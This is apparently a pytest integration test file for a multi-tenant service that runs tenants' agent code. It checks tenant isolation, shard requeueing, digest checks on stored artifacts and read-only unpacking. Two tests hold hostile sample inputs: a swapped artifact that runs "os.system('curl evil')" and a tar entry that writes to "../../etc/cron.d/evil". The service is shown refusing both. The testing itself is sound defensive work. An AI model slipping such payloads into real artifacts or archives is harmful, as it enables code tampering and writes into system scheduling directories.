"""A worker runs a tenant's code only for its own tenant, while allowed, with a code dir; a lost
code shard is sent again to its tenant's queue, never to the shared one. Real database and Redis."""

from __future__ import annotations

import base64
import hashlib
import json
import time
import uuid
from pathlib import Path

import pydantic
import pytest
import sqlalchemy as sa
from sqlmodel import Session

from service.app import shards
from service.core.faults.plan import parse_plan
from service.core.shards.assay import plan_shards
from service.core.system.manifest import parse_manifest
from service.db import tenant as tenants
from service.db.apikey import ensure_tenant
from service.db.artifact import stage as stage_artifact
from service.db.candidate import record_submission
from service.db.models import (
    Assay,
    AssayShard,
    AssayStatus,
    CandidateArtifact,
    Dossier,
)
from service.db.session import session_scope
from service.packing import Entry, archive, pack_folder
from service.settings import Settings
from service.targets import close_target
from tests.support.service import example, grant_injector, tenant_code
from tests.support.worker import seal
from worker.code import confinement_for
from worker.context import WorkerContext
from worker.reconciler import Reconciler
from worker.tasks import execute_shard

pytestmark = pytest.mark.integration

PYTHON_TARGET = {"kind": "python", "entrypoint": "tests.worker.agents.rogue:agent"}
ARTIFACT_TARGET = {"kind": "python", "entrypoint": "team_agent:agent"}
#: The team's own agent, as its artifact holds it (the rogue agent of tests/worker/agents).
TEAM_AGENT = (Path(__file__).parent / "agents" / "rogue.py").read_bytes()


def team_code(extra: bytes = b"") -> bytes:
    return archive([Entry("team_agent.py", "file", TEAM_AGENT + extra)])


def code_assay(
    engine: sa.Engine,
    settings: Settings,
    tenant: str,
    *,
    allowed: bool,
    lease_s: float = 60,
    code: bytes | None = None,
) -> uuid.UUID:
    """A python-target assay of `tenant` recorded as the API records one, with no message sent;
    with `code`, the candidate names those bytes, stored as the tenant's artifact (and its
    entrypoint is the artifact's `team_agent:agent`)."""
    target = PYTHON_TARGET if code is None else ARTIFACT_TARGET
    manifest = parse_manifest({**example("typed"), "target": target})
    plan = parse_plan({"trials": 2, "seed": 5, "modes": ["subject_swap"]})
    with session_scope(engine) as session:
        row = ensure_tenant(session, tenant)
        tenants.set_code_allowed(session, row, allowed)
        sha256 = None
        if code is not None:
            sha256 = hashlib.sha256(code).hexdigest()
            stage_artifact(session, row.id, sha256, code)
        recorded = record_submission(
            session,
            tenant_id=row.id,
            system_name=f"code-{uuid.uuid4().hex[:8]}",
            version="1",
            source_revision="direct",
            manifest=manifest,
            plan_document=plan.model_dump(mode="json"),
            catalogue=plan.resolve_catalogue().version,
            shards=plan_shards(manifest, plan, trials_per_shard=10),
            lease_s=lease_s,
            code_sha256=sha256,
        )
        grant_injector(session, settings, recorded.assay, plan)
    return recorded.assay.id


def worker_of(settings: Settings, tenant: str | None, code_dir: Path | None) -> WorkerContext:
    return WorkerContext(
        settings.model_copy(update={"worker_tenant": tenant, "tenant_code_dir": code_dir})
    )


def outcome(engine: sa.Engine, assay_id: uuid.UUID) -> tuple[Assay, AssayShard]:
    with Session(engine) as session:
        assay = session.get(Assay, assay_id)
        shard = session.get(AssayShard, (assay_id, 0))
        assert assay is not None and shard is not None
        return assay, shard


@pytest.mark.parametrize(
    ("worker_tenant", "code_dir", "allowed", "reason"),
    [
        (None, "operator", True, "a shared worker never runs it"),
        ("someone-else", "operator", True, "tenant someone-else's worker never runs it"),
        ("{tenant}", None, True, "started without ASSAYGATE_TENANT_CODE_DIR"),
        ("{tenant}", "operator", False, "no longer allowed to run code"),
    ],
)
def test_a_worker_that_may_not_run_a_code_shard_fails_its_assay_and_never_starts_it(
    engine: sa.Engine,
    settings: Settings,
    worker_tenant: str | None,
    code_dir: str | None,
    allowed: bool,
    reason: str,
) -> None:
    tenant = f"team-{uuid.uuid4().hex[:8]}"
    assay_id = code_assay(engine, settings, tenant, allowed=allowed)
    named = worker_tenant.format(tenant=tenant) if worker_tenant else None
    folder = tenant_code() if code_dir else None
    result = execute_shard(worker_of(settings, named, folder), assay_id, 0, "w")
    assert result["stored"] is False
    assay, shard = outcome(engine, assay_id)
    assert assay.status == AssayStatus.FAILED
    assert assay.report is not None and reason in assay.report["error"]
    assert "manifest.target.entrypoint (python)" in assay.report["error"]
    assert shard.worker is None and shard.attempts == 0


def test_the_tenants_own_worker_runs_its_allowed_code_in_its_confinement(
    engine: sa.Engine, settings: Settings
) -> None:
    tenant = f"team-{uuid.uuid4().hex[:8]}"
    assay_id = code_assay(engine, settings, tenant, allowed=True)
    ctx = worker_of(settings, tenant, tenant_code())
    parsed = ctx.assay(assay_id)
    assert parsed is not None and parsed.inputs.tenant == tenant
    secrets = ctx.secrets(parsed.inputs, parsed.manifest)
    code = ctx.code(assay_id, parsed.inputs)
    confinement = confinement_for(ctx.settings, parsed.manifest, secrets, None, code)
    assert confinement is not None and confinement.code_dir == tenant_code()
    assert confinement.limits.cpu_s == settings.code_cpu_s
    assert dict(confinement.env) == {}  # no secrets named, nothing of the worker's environment
    with Session(engine) as session:
        count = session.get(Assay, assay_id).shard_count  # type: ignore[union-attr]
    for index in range(count):
        execute_shard(ctx, assay_id, index, "tenant-w")
    if ctx.settings.worker_tenant:
        seal(ctx.settings, assay_id)  # a tenant's worker never signs: the shared pool does
    assay, shard = outcome(engine, assay_id)
    assert assay.status == AssayStatus.DONE, assay.report
    assert shard.worker == "tenant-w"
    # The operator's folder ran, and what ran is recorded by the digest `assaygate pack` gives.
    assert shard.code_sha256 == code.sha256 == pack_folder(tenant_code()).sha256


def purge(reconciler: Reconciler, queue: str) -> None:
    with reconciler.client.connection_for_write() as connection:
        connection.default_channel.queue_purge(queue)


def test_a_lost_code_shard_is_sent_again_to_its_tenants_queue_and_not_the_shared_one(
    engine: sa.Engine, settings: Settings
) -> None:
    tenant = f"team-{uuid.uuid4().hex[:8]}"
    own = settings.tenant_queue(tenant)
    assay_id = code_assay(engine, settings, tenant, allowed=True, lease_s=0.001)
    reconciler = Reconciler(settings, "r-code")
    try:
        purge(reconciler, settings.queue)
        time.sleep(0.01)
        done = reconciler.run_once()
        mine = reconciler.queue_depth(own)
    finally:
        reconciler.client.close()
    assert done.queue_depths[own] == 0  # measured on its own, before the send
    with Session(engine) as session:
        count = session.get(Assay, assay_id).shard_count  # type: ignore[union-attr]
    # Each of its shards sent once more, and every one of those messages is in its own queue.
    assert mine == count
    _, shard = outcome(engine, assay_id)
    assert shard.dispatches == 2


# ------------------------------------------------------------------------- code artifacts


def run_all(ctx: WorkerContext, engine: sa.Engine, assay_id: uuid.UUID) -> None:
    with Session(engine) as session:
        count = session.get(Assay, assay_id).shard_count  # type: ignore[union-attr]
    for index in range(count):
        execute_shard(ctx, assay_id, index, "tenant-w")
    if ctx.settings.worker_tenant:
        seal(ctx.settings, assay_id)  # a tenant's worker never signs: the shared pool does


def subjects(engine: sa.Engine, assay_id: uuid.UUID) -> list[dict[str, object]]:
    with Session(engine) as session:
        dossier = session.exec(sa.select(Dossier).where(Dossier.assay_id == assay_id)).scalar()
        assert dossier is not None
        envelope = json.loads(dossier.envelope)
    statement = json.loads(base64.b64decode(envelope["payload"]))
    found: list[dict[str, object]] = statement["subject"][1:]
    return found


def test_the_candidates_artifact_is_checked_unpacked_read_only_and_is_what_runs(
    engine: sa.Engine, settings: Settings, tmp_path: Path
) -> None:
    tenant = f"team-{uuid.uuid4().hex[:8]}"
    data = team_code()
    sha256 = hashlib.sha256(data).hexdigest()
    assay_id = code_assay(engine, settings, tenant, allowed=True, code=data)
    # No operator folder at all: the artifact is the code.
    ctx = worker_of(settings, tenant, None)
    parsed = ctx.assay(assay_id)
    assert parsed is not None and parsed.inputs.code_sha256 == sha256
    code = ctx.code(assay_id, parsed.inputs)
    assert code.folder == settings.artifact_cache_dir / sha256  # type: ignore[operator]
    assert (code.folder / "team_agent.py").read_bytes() == TEAM_AGENT
    assert (code.folder / "team_agent.py").stat().st_mode & 0o777 == 0o444
    confinement = confinement_for(ctx.settings, parsed.manifest, {}, None, code)
    assert confinement is not None and confinement.code_dir == code.folder
    run_all(ctx, engine, assay_id)
    assay, shard = outcome(engine, assay_id)
    assert assay.status == AssayStatus.DONE, assay.report
    assert shard.code_sha256 == sha256
    assert subjects(engine, assay_id) == [
        {
            "name": "assaygate:code",
            "digest": {"sha256": sha256},
            "annotations": {"assurance": "executed", "source": "artifact"},
        }
    ]
    with Session(engine) as session:
        rows = session.exec(sa.select(CandidateArtifact)).scalars().all()
        mine = [r for r in rows if r.candidate_id == assay.candidate_id]
    assert [(r.sha256, r.assurance) for r in mine] == [(sha256, "executed")]


def test_an_artifact_whose_stored_bytes_do_not_match_its_digest_is_refused_and_never_runs(
    engine: sa.Engine, settings: Settings
) -> None:
    tenant = f"team-{uuid.uuid4().hex[:8]}"
    data = team_code(b"# the bytes that were uploaded\n")
    sha256 = hashlib.sha256(data).hexdigest()
    assay_id = code_assay(engine, settings, tenant, allowed=True, code=data)
    # Someone with the database swaps the row's bytes for other code after the submission.
    swapped = team_code(b"import os; os.system('curl evil')\n")
    with session_scope(engine) as session:
        session.execute(
            sa.text("UPDATE artifact SET content = :c WHERE sha256 = :s"),
            {"c": swapped, "s": sha256},
        )
    result = execute_shard(worker_of(settings, tenant, tenant_code()), assay_id, 0, "w")
    assert result["stored"] is False
    assay, shard = outcome(engine, assay_id)
    assert assay.status == AssayStatus.FAILED
    error = str(assay.report["error"])  # type: ignore[index]
    assert f"artifact sha256:{sha256}" in error and "not to sha256:" in error
    assert "nothing of it runs" in error
    assert shard.worker is None and shard.attempts == 0  # never started
    assert not (settings.artifact_cache_dir / sha256).exists()  # type: ignore[operator]


def test_an_artifact_that_would_write_outside_its_folder_fails_the_assay_naming_the_entry(
    engine: sa.Engine, settings: Settings
) -> None:
    import gzip
    import io
    import tarfile

    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        info = tarfile.TarInfo("../../etc/cron.d/evil")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    tenant = f"team-{uuid.uuid4().hex[:8]}"
    assay_id = code_assay(
        engine, settings, tenant, allowed=True, code=gzip.compress(raw.getvalue())
    )
    execute_shard(worker_of(settings, tenant, None), assay_id, 0, "w")
    assay, shard = outcome(engine, assay_id)
    assert assay.status == AssayStatus.FAILED
    assert "`..` component leaves the folder" in str(assay.report["error"])  # type: ignore[index]
    assert shard.attempts == 0


def test_the_same_manifest_with_other_code_is_another_target_of_the_worker(
    engine: sa.Engine, settings: Settings
) -> None:
    tenant = f"team-{uuid.uuid4().hex[:8]}"
    first = code_assay(engine, settings, tenant, allowed=True, code=team_code(b"# one\n"))
    second = code_assay(engine, settings, tenant, allowed=True, code=team_code(b"# two\n"))
    ctx = worker_of(settings, tenant, None)
    targets = []
    for assay_id in (first, second):
        parsed = ctx.assay(assay_id)
        assert parsed is not None
        targets.append(ctx.target(assay_id, parsed.manifest, parsed.inputs))
    try:
        assert targets[0] is not targets[1]
    finally:
        for target in targets:
            close_target(target)
        for assay_id in (first, second):  # never run: no reconciler of a later test resends them
            shards.fail(engine, assay_id, "the test only loaded its target")


def test_dependencies_vendored_in_the_artifact_are_what_its_code_imports(
    engine: sa.Engine, settings: Settings
) -> None:
    """Pinned dependencies travel inside the artifact (`vendor/`), so its digest covers them."""
    future = b"from __future__ import annotations\n"
    agent = TEAM_AGENT.replace(future, future + b"import teamlib\n").replace(
        b'"prod/O-1"', b"teamlib.refund_subject()"
    )
    assert agent.count(b"teamlib") == 2  # imported when the entrypoint loads
    data = archive(
        [
            Entry("team_agent.py", "file", agent),
            Entry("vendor", "dir"),
            Entry("vendor/teamlib.py", "file", b"def refund_subject():\n    return 'prod/O-1'\n"),
        ]
    )
    tenant = f"team-{uuid.uuid4().hex[:8]}"
    assay_id = code_assay(engine, settings, tenant, allowed=True, code=data)
    run_all(worker_of(settings, tenant, None), engine, assay_id)
    assay, shard = outcome(engine, assay_id)
    assert assay.status == AssayStatus.DONE, assay.report
    assert shard.code_sha256 == hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize(
    "image",
    ["registry.example.com/team/worker:latest", "worker@sha256:short", "a b@sha256:" + "0" * 64],
)
def test_a_tenant_image_not_pinned_by_digest_is_refused_naming_the_setting(
    settings: Settings, image: str
) -> None:
    """A tag can point at other bytes tomorrow: the dossier would name what nothing pins."""
    with pytest.raises(pydantic.ValidationError, match="tenant_image"):
        Settings(**{**settings.model_dump(), "tenant_image": image})
    pinned = "registry.example.com/team/worker@sha256:" + "0" * 64
    assert Settings(**{**settings.model_dump(), "tenant_image": pinned}).tenant_image == pinned
